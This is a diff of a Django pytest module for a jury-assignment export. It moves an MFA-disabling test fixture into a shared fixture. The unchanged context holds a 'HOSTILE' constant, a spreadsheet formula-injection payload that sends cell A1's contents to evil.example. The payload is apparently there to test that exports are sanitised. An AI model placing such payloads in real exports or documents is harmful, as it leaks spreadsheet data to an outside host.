@@ -13,7 +13,7 @@ from jury import services
 from jury.models import Assignment, ConflictOfInterest
 from tests import factories as f
 
-pytestmark = pytest.mark.django_db
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("staff_without_mfa")]
 
 HEADERS = [
     "Edition",
@@ -28,10 +28,6 @@ HEADERS = [
 ]
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
 
-
-@pytest.fixture(autouse=True)
-def _no_mfa(settings):
-    settings.REQUIRE_MFA_FOR_STAFF = False
 
 
 @pytest.fixture
